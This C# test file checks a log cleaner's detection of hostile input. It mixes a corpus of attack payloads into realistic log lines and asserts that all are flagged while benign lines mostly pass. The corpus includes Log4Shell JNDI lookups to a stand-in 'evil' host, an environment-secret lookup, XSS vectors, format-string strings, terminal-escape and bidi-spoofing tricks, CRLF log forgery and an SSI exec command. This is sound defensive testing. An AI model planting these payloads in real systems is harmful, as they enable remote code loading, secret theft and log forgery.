using Monitor.Domain.Logs;
using Monitor.Domain.Logs.Cleaning;

namespace Monitor.Tests.Logs.Cleaning;

public sealed class HostileCorpusTests
{
    private static readonly string[] Payloads =
    [
        "\r\nNov 28 10:00:00 web sshd[1]: Accepted password for root", "\n{\"level\":\"info\",\"user\":\"admin\"}", "\u001b[2K\u001b[1A", "\u001b]8;;http://evil/\u0007here\u001b]8;;\u0007",
        "\u001b[8mhidden\u001b[0m", "\u202Etxt.exe", "\u2066\u202Eadmin\u2069", "\0\0", "\b\b\b\bok", "\ud83d", "\uFFFD", "${jndi:ldap://evil/a}", "${${::-j}${::-n}di:rmi://e/a}",
        "${jndi:${lower:l}dap://evil}", "${env:AWS_SECRET}", "%24%7Bjndi:dns://evil%7D", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "<iframe src=//evil>", "\"><a href=javascript:alert(1)>x</a>", "%3Cscript%3Ealert(1)%3C/script%3E", "<details open ontoggle=alert(1)>", "%n%n%n", "%s%s%s%s%s", "AAAA%08x.%08x.%08x.%n",
        "%p %p %p %p", "%x%x%x", "%7$n", "<!--#exec cmd=\"id\"-->", "javascript:alert(document.cookie)", "\u2028fake line",
    ];

    private static readonly string[] Carriers =
    [
        "GET /search?q={0} HTTP/1.1 404 12", "Failed password for invalid user {0} from 10.1.2.3 port 4022 ssh2", "{0}", "user-agent: {0}", "order 4411 of customer {0} was refused",
        "could not open {0}: No such file or directory", "{{\"msg\":\"{0}\"}}",
    ];

    private static readonly string[] Benign =
    [
        "LOG:  checkpoint complete: wrote {0} buffers ({1}.1%); 0 WAL file(s) added", "kernel: [{0}.{1}] usb 1-1: new high-speed USB device number {1} using xhci_hcd",
        "GET /index.html?next=%2Fhome%2F{0}&q=%d0%bf%d1%80%d0%b8 HTTP/1.1 200 {1}", "at System.Collections.Generic.List<object>.get_Item(Int32 index) line {0}",
        "LogFormat \"%h %l %u %t \\\"%r\\\" %>s %b\" combined {0}", "date +%Y-%m-%d %H:%M:%S gave {0}", "PATH is ${{HOME}}/bin:${{PATH:-/usr/bin}} of {0}", "usage: tool [-a <address>] <object> {0}",
        "memory use is {0} % of {1} MB, 5% more", "a < b && c > d for {0}", "mail from <user{0}@example.org> accepted", "café über naïve {0} — done “ok” …", "日本語のログ {0} 件",
        "Dictionary<string, List<int>> has {0} entries", "rsync: 100% {0}kB/s 0:00:{1}", "select count(*) from t where a <> {0} and b <= {1}", "C:\\Users\\x{0}\\file.txt not found",
        "json {{\"a\":{0},\"b\":[1,2],\"c\":\"x<y\"}}", "took 50%; s={0}, x={1}", "Unit foo@{0}.service: Deactivated successfully.", "<7>audit: type=1400 apparmor=\"ALLOWED\" pid={0}",
        "Queue <default> drained, {0} left", "{0}%\t{1}%\tidle", "http://example.org/a%20b%3d{0}?c=%5b%5d", "<a@b.c> to <d{0}@e.f>: relay ok",
    ];

    [Fact]
    public void Attack_two_hundred_hostile_lines_are_found_among_two_thousand_plain_ones()
    {
        var random = new Random(42);
        var hostile = Enumerable.Range(0, 200).Select(i => string.Format(Carriers[random.Next(Carriers.Length)].Replace("{0}", "\u0001"), "").Replace("\u0001", Payloads[i % Payloads.Length])).ToList();
        var plain = Enumerable.Range(0, 2000).Select(i => string.Format(Benign[i % Benign.Length], random.Next(100_000), random.Next(60))).ToList();
        var missed = hostile.Where(l => !Marks(l).AreHostile()).Distinct().ToList();
        var wrong = plain.Where(l => Marks(l).AreHostile()).Distinct().ToList();
        Assert.True(missed.Count == 0, $"Missed: {string.Join(" | ", missed)}");
        Assert.True(wrong.Count <= 10, $"Wrongly marked: {string.Join(" | ", wrong.Take(20))}");
    }

    [Fact]
    public void Attack_42_Every_payload_is_found_in_every_line_that_carries_it() => Assert.Empty(
        from payload in Payloads from carrier in Carriers let line = string.Format(carrier, "\u0001").Replace("\u0001", payload) where !Marks(line).AreHostile() select line);

    private static LogMarks Marks(string line)
    {
        LogCleaner.Clean(line, LogCleaner.Most, out var marks);
        return marks;
    }
}
